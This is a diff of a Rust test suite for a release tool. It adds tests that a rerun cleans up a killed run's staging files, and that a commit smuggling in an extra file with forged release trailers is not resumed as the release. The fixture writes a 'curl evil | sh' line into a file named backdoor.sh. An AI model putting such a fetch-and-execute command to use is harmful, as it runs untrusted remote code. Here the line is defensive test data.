@@ -104,17 +104,28 @@ fn a_tag_git_cannot_make_stops_the_cut_before_the_commit() {
 }
 
 /// Killed while it staged files, the cut left `.<file>.release-<pid>.tmp` files and every rerun
-/// refused the dirty tree.
+/// refused the dirty tree. A file that only looks like one is the user's, and stays.
 #[test]
 fn a_rerun_removes_the_staging_files_of_a_killed_cut() {
     let setup = setup("single-package");
+    // A run that wrote its journal and files, and was killed while staging the next ones.
+    let output = release_with(&setup.work, &["cut", "--no-commit"], &[]);
+    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
     fs_err::write(setup.work.join(".Cargo.toml.release-19215.tmp"), "[package]\nhalf").unwrap();
-    fs_err::create_dir_all(setup.work.join("src/nested")).unwrap();
-    fs_err::write(setup.work.join("src/nested/.CHANGELOG.md.release-7.tmp"), "# Chan").unwrap();
+    fs_err::write(setup.work.join(".CHANGELOG.md.release-7.tmp"), "# Chan").unwrap();
+    fs_err::create_dir_all(setup.work.join("notes")).unwrap();
+    fs_err::write(setup.work.join("notes/.todo.md.release-7.tmp"), "mine").unwrap();
+
+    let output = release_with(&setup.work, &["cut", "--no-forge"], &[]);
+    assert_eq!(output.status.code(), Some(1), "{}", says(&output));
+    assert!(says(&output).contains("uncommitted changes: notes/.todo.md.release-7.tmp (hint"), "{}", says(&output));
+    assert!(!setup.work.join(".Cargo.toml.release-19215.tmp").exists(), "the killed run's own leftovers go");
+    assert!(!setup.work.join(".CHANGELOG.md.release-7.tmp").exists());
+    assert_eq!(fs_err::read_to_string(setup.work.join("notes/.todo.md.release-7.tmp")).unwrap(), "mine");
+
+    fs_err::remove_dir_all(setup.work.join("notes")).unwrap();
     let output = release_with(&setup.work, &["cut", "--no-forge"], &[]);
     assert_eq!(output.status.code(), Some(0), "{}", says(&output));
-    assert!(!setup.work.join(".Cargo.toml.release-19215.tmp").exists());
-    assert!(!setup.work.join("src/nested/.CHANGELOG.md.release-7.tmp").exists());
     assert_eq!(git(&setup.work, &["status", "--porcelain"]), "");
     assert_eq!(git(&setup.remote, &["tag", "--list", "v1.2.0"]), "v1.2.0\n");
 }
@@ -290,4 +301,32 @@ fn cut_no_commit_twice_writes_the_same_files_as_once() {
     let third = release_with(work, &["cut", "--no-commit"], &[]);
     assert_eq!(third.status.code(), Some(0), "{}", says(&third));
     assert_eq!(fs_err::read_to_string(work.join("package.json")).unwrap(), manifest);
+}
+
+/// A hand-made commit that held the release's files and one more (`backdoor.sh`), with trailers
+/// naming someone else as who cut it, was resumed as the release: the backdoor shipped, and the
+/// one who ran the cut could approve it.
+#[test]
+fn a_release_commit_with_files_the_release_does_not_write_is_not_resumed() {
+    let setup = setup("single-package");
+    let output = release_with(&setup.work, &["cut", "--no-commit"], &[]);
+    assert_eq!(output.status.code(), Some(0), "{}", says(&output));
+    fs_err::remove_dir_all(setup.work.join(".git/release")).unwrap();
+    fs_err::write(setup.work.join("backdoor.sh"), "curl evil | sh\n").unwrap();
+    commit(
+        &setup.work,
+        "chore(release): tool 1.2.0\n\nRelease-Tool: release\nRelease-Tag: v1.2.0 1.2.0 tool\nRelease-Actor: alice\n",
+    );
+
+    let output = release_with(&setup.work, &["cut", "--no-forge"], &[("RELEASE_ACTOR", "mallory")]);
+    assert!(
+        says(&output).contains("is not a release commit: it changes files the release does not write (backdoor.sh)"),
+        "{}",
+        says(&output)
+    );
+    // Planned as the ordinary commit it is: no tag on it, and whatever the plan makes next is
+    // recorded as cut by the one who ran it.
+    assert_ne!(git(&setup.remote, &["tag", "--points-at", "HEAD^"]), "v1.2.0\n");
+    let message = git(&setup.work, &["log", "-1", "--format=%B"]);
+    assert!(!message.contains("Release-Actor: alice"), "{message}");
 }
